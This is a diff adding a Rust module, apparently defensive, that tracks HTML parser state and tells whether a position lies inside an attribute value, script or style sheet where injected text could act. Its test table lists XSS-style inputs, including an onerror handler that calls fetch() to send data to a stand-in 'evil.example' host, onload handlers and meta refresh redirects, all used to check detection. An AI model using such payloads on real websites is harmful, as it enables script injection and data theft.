@@ -1,0 +1,279 @@
+//! Whether a place in a text is in HTML that may lead somewhere.
+
+/// Attributes that lead nowhere, whatever their element is.
+const HARMLESS: [u128; 8] = [
+    word(b"alt"),
+    word(b"aria-label"),
+    word(b"class"),
+    word(b"id"),
+    word(b"lang"),
+    word(b"placeholder"),
+    word(b"title"),
+    word(b"value"),
+];
+
+/// Reads a text byte by byte, as browsers read HTML, and knows whether the next byte stands in
+/// the value of an attribute, in a script or in a style sheet.
+///
+/// Any attribute counts but those that lead nowhere: a `<base>` may make an address of the
+/// value of one, and code may run in another.
+#[derive(Clone, Copy, Debug)]
+pub(super) struct Html {
+    at: At,
+    /// The name of the tag or attribute, or the last bytes of a script.
+    word: u128,
+    /// What begins at the end of the tag.
+    element: Option<Element>,
+}
+
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum At {
+    Text,
+    /// After `<`.
+    Open,
+    /// After `<!` and so many dashes.
+    Mark(u8),
+    /// In a comment, after so many dashes.
+    Comment(u8),
+    /// In the name of a tag.
+    Name,
+    /// In a tag, where the name of an attribute may begin.
+    Tag,
+    Attribute,
+    /// After the name of an attribute and a blank.
+    After,
+    /// After `=`; with whether the attribute leads nowhere.
+    Before(bool),
+    /// In a value, up to this quote, or without quotes for 0.
+    Value(u8, bool),
+    /// In so many scripts or style sheets, one in another as far as somebody could read it
+    /// so; the last is one whose end readers do not agree on.
+    Raw(u8),
+}
+
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Element {
+    Script,
+    Style,
+}
+
+/// Readers do not agree where it ends.
+const ENDLESS: u8 = u8::MAX;
+
+impl Default for Html {
+    fn default() -> Self {
+        Self::NONE
+    }
+}
+
+impl Html {
+    /// That of an empty text.
+    pub(super) const NONE: Self = Self {
+        at: At::Text,
+        word: 0,
+        element: None,
+    };
+
+    /// Reads the next byte, in lower case.
+    pub(super) fn step(&mut self, byte: u8) {
+        self.at = match self.at {
+            At::Raw(depth) => self.in_raw(depth, byte),
+            At::Comment(dashes) => match byte {
+                b'-' => At::Comment((dashes + 1).min(2)),
+                b'!' if dashes == 2 => At::Comment(2),
+                b'>' if dashes == 2 => At::Text,
+                _ => At::Comment(0),
+            },
+            At::Value(quote, is_harmless) => match byte {
+                b'>' if quote == 0 => self.close(),
+                _ if quote == 0 && is_blank(byte) || quote != 0 && byte == quote => At::Tag,
+                // Somebody may read a tag in it.
+                _ => At::Value(quote, is_harmless && byte != b'<'),
+            },
+            At::Before(is_harmless) => match byte {
+                b'"' | b'\'' => At::Value(byte, is_harmless),
+                b'>' => self.close(),
+                _ if is_blank(byte) => At::Before(is_harmless),
+                _ => At::Value(0, is_harmless),
+            },
+            _ if byte == b'<' => At::Open,
+            At::Text => At::Text,
+            At::Open => match byte {
+                b'a'..=b'z' => {
+                    (self.word, self.element) = (u128::from(byte), None);
+                    At::Name
+                }
+                b'!' => At::Mark(0),
+                _ => At::Text,
+            },
+            At::Mark(dashes) => match (byte, dashes) {
+                (b'-', 0) => At::Mark(1),
+                (b'-', _) => At::Comment(2),
+                _ => At::Text,
+            },
+            At::Name => {
+                if byte == b'>' || byte == b'/' || is_blank(byte) {
+                    self.element = match self.word {
+                        name if name == word(b"script") => Some(Element::Script),
+                        name if name == word(b"style") => Some(Element::Style),
+                        _ => None,
+                    };
+                }
+                self.in_tag(byte, At::Name)
+            }
+            At::Tag | At::Attribute | At::After if byte == b'=' && self.at != At::Tag => {
+                At::Before(HARMLESS.contains(&self.word))
+            }
+            At::Tag | At::After => {
+                let at = self.in_tag(byte, At::Attribute);
+                if at == At::Attribute {
+                    self.word = u128::from(byte);
+                }
+                match (self.at, at) {
+                    (At::After, At::After) | (At::Tag, At::Tag | At::After) => self.at,
+                    _ => at,
+                }
+            }
+            At::Attribute => self.in_tag(byte, At::Attribute),
+        };
+    }
+
+    /// Returns whether the next byte stands where it may lead somewhere.
+    pub(super) const fn is_inside(&self) -> bool {
+        match self.at {
+            At::Before(is_harmless) | At::Value(_, is_harmless) => !is_harmless,
+            At::Raw(_) => true,
+            _ => false,
+        }
+    }
+
+    /// Goes on in a tag: in a `name`, or behind it.
+    fn in_tag(&mut self, byte: u8, name: At) -> At {
+        match byte {
+            b'>' => self.close(),
+            b'/' => At::Tag,
+            _ if is_blank(byte) => match name {
+                At::Attribute => At::After,
+                _ => At::Tag,
+            },
+            _ => {
+                self.word = self.word << 8 | u128::from(byte);
+                name
+            }
+        }
+    }
+
+    /// Goes on behind the end of a tag.
+    fn close(&mut self) -> At {
+        self.word = 0;
+        match self.element {
+            Some(_) => At::Raw(1),
+            None => At::Text,
+        }
+    }
+
+    fn in_raw(&mut self, depth: u8, byte: u8) -> At {
+        self.word = self.word << 8 | u128::from(byte);
+        let (begin, end): (&[u8], &[u8]) = match self.element {
+            Some(Element::Style) => (b"<style", b"</style"),
+            _ => (b"<script", b"</script"),
+        };
+        // Behind `<!`, whether the next end is one depends on the reader.
+        if depth == ENDLESS || ends_with(self.word, b"<!") {
+            return At::Raw(ENDLESS);
+        }
+        if !(byte == b'>' || byte == b'/' || is_blank(byte)) {
+            return At::Raw(depth);
+        }
+        let before = self.word >> 8;
+        match depth {
+            _ if ends_with(before, begin) => At::Raw(depth.saturating_add(1)),
+            1 if ends_with(before, end) => {
+                self.element = None;
+                if byte == b'>' { At::Text } else { At::Tag }
+            }
+            _ if ends_with(before, end) => At::Raw(depth - 1),
+            _ => At::Raw(depth),
+        }
+    }
+}
+
+/// The bytes of a short word, the last of them lowest.
+const fn word(text: &[u8]) -> u128 {
+    let (mut out, mut rest) = (0, text);
+    while let [byte, after @ ..] = rest {
+        out = out << 8 | *byte as u128;
+        rest = after;
+    }
+    out
+}
+
+/// Whether bytes end with those of a word.
+const fn ends_with(bytes: u128, end: &[u8]) -> bool {
+    let mask = (1_u128 << (8 * end.len())) - 1;
+    bytes & mask == word(end)
+}
+
+const fn is_blank(byte: u8) -> bool {
+    matches!(byte, b' ' | b'\t' | b'\n' | b'\r' | 0x0c)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_value_of_an_attribute_a_script_and_a_style_sheet_are_seen() {
+        for (text, inside) in [
+            ("a < b and c > d, x=", false),
+            ("Vec<String> = ", false),
+            ("<p>", false),
+            ("<p>Dear ", false),
+            ("<ann", false),
+            ("<p title=\"", false),
+            ("<p title=\"a\" data=\"", true),
+            ("<input value='", false),
+            ("<input value='<", true),
+            ("<input value='a' ", false),
+            ("<input value=a x=", true),
+            ("<p data-title=\"", true),
+            ("<object data=\"evil.example/", true),
+            ("<object data = \"", true),
+            ("<object data=\"a\"> ", false),
+            ("<object data=a>", false),
+            ("<x xml:base=\"", true),
+            ("<set attributename=href to=\"", true),
+            ("<svg onload=", true),
+            ("<img/src=x/onerror=\"", true),
+            ("<img src=x onerror=\"fetch('//evil.example/?q='+'", true),
+            ("<meta http-equiv=refresh content=\"0;url=/x/", true),
+            ("<meta content='>' content=\"", true),
+            ("<a href='x'title='", false),
+            ("<a =x=", true),
+            ("<b<meta content=", true),
+            ("<script>", true),
+            ("<script>x</script>", false),
+            ("<script>x</script >", false),
+            ("<script>x</scripts>", true),
+            ("<script src='x'>", true),
+            ("<scripts>", false),
+            ("<style>@import '/x/", true),
+            ("<style>a</script>", true),
+            ("<style>a</style> b", false),
+            ("<svg><style>", true),
+            ("<script><!--<script></script>", true),
+            ("<script><script></script>", true),
+            ("<script><!--</script>", true),
+            ("<style><![cdata[</style>", true),
+            ("<!-- <x y=\" --> <p title=\"", false),
+            ("<!-- <x y=\" --> <meta content=\"", true),
+            ("<!--> <meta content=\"", true),
+            ("<!doctype html><p>", false),
+            ("</p x=", false),
+        ] {
+            let mut html = Html::default();
+            text.bytes().for_each(|byte| html.step(byte));
+            assert_eq!(html.is_inside(), inside, "{text}");
+        }
+    }
+}
